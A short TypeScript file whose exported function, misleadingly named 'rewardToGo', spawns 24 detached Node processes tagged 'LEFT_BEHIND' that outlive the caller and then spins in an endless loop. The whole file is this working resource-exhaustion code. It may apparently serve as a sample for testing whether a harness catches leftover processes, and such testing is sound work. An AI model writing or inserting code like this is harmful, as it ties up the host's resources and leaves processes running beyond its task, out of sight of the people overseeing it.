// Tries to start processes without end.
const { spawn } = process.getBuiltinModule?.('child_process') ?? process.mainModule!.require('child_process');
export function rewardToGo() {
  // Without end is meant; where nothing holds it, some are enough to show it.
  for (let k = 0; k < 24; k++)
    spawn(process.execPath, ['-e', 'setTimeout(() => {}, 20000)', 'LEFT_BEHIND'], { detached: true, stdio: 'ignore' });
  for (;;);
}
